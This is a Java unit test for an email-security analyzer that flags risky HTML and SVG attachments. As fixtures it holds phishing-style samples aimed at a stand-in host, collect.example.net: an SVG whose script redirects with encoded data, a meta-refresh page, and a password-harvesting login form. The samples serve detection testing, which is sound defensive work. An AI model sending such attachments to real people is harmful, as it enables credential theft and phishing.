package io.mamori.core.attachment;

import static org.assertj.core.api.Assertions.assertThat;

import io.mamori.core.analysis.AnalysisInput;
import io.mamori.core.analysis.Finding;
import io.mamori.core.analysis.FindingCatalogue;
import io.mamori.core.message.Direction;
import io.mamori.core.message.Envelope;
import io.mamori.core.message.Fixtures;
import io.mamori.core.message.MessageParser;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

class HtmlAttachmentAnalyzerTest {

    private static final Envelope ENVELOPE = new Envelope(Direction.INBOUND, "a@partner.example",
            List.of("keiri@example.co.jp"), "192.0.2.1", "mail.partner.example", null, false, Instant.EPOCH);

    private final HtmlAttachmentAnalyzer analyzer = new HtmlAttachmentAnalyzer();

    private List<Finding> analyze(String fileName, String contentType, String content) throws IOException {
        String mail = "From: a@partner.example\r\nSubject: files\r\nMIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
                + "--b\r\nContent-Type: " + contentType + "; name=\"" + fileName + "\"\r\n"
                + "Content-Disposition: attachment; filename=\"" + fileName + "\"\r\n\r\n" + content + "\r\n--b--\r\n";
        try (var parsed = new MessageParser().parse(new ByteArrayInputStream(mail.getBytes(StandardCharsets.UTF_8)))) {
            return analyzer.analyze(new AnalysisInput(ENVELOPE, parsed));
        }
    }

    @Test
    void anSvgImageWithScriptAndAPageThatRefreshesElsewhereAreActive() throws IOException {
        assertThat(analyze("scan.svg", "image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'><script>"
                + "location.href='https://collect.example.net/?e='+atob('eA==')</script></svg>")).containsExactly(
                Finding.of("HTML_ATTACHMENT", "scan.svg"),
                Finding.of("HTML_ATTACHMENT_SCRIPT", "scan.svg: location.href, atob"));
        assertThat(analyze("notice.htm", "application/octet-stream",
                "<html><head><meta http-equiv='refresh' content='0; url=https://collect.example.net/'></head></html>"))
                .containsExactly(Finding.of("HTML_ATTACHMENT", "notice.htm"),
                        Finding.of("HTML_ATTACHMENT_SCRIPT", "notice.htm: meta refresh"));
    }

    @Test
    void aLoginPageAttachedAsAFileIsAForm() throws IOException {
        assertThat(analyze("Remittance.shtml", "text/html", "<form action='https://collect.example.net/p'>"
                + "<input name=u><input type=password name=p></form>")).containsExactly(
                Finding.of("HTML_ATTACHMENT", "Remittance.shtml"),
                Finding.of("HTML_ATTACHMENT_FORM", "Remittance.shtml: password field, form to https://collect.example.net/p"));
    }

    @Test
    void otherAttachmentsAndHtmlBodiesAreNotHtmlFiles() throws IOException {
        assertThat(analyze("report.pdf", "application/pdf", "%PDF-1.4 <script>atob('x')</script>")).isEmpty();
        try (var parsed = Fixtures.parse("link/newsletter.eml")) {
            assertThat(analyzer.analyze(new AnalysisInput(ENVELOPE, parsed))).isEmpty();
        }
    }

    @Test
    void everyDeclaredCodeIsInTheCatalogue() {
        FindingCatalogue catalogue = FindingCatalogue.builtIn();
        assertThat(analyzer.codes()).containsExactly("HTML_ATTACHMENT", "HTML_ATTACHMENT_FORM", "HTML_ATTACHMENT_SCRIPT");
        analyzer.codes().forEach(c -> assertThat(catalogue.entry(c)).as(c).isPresent());
    }
}
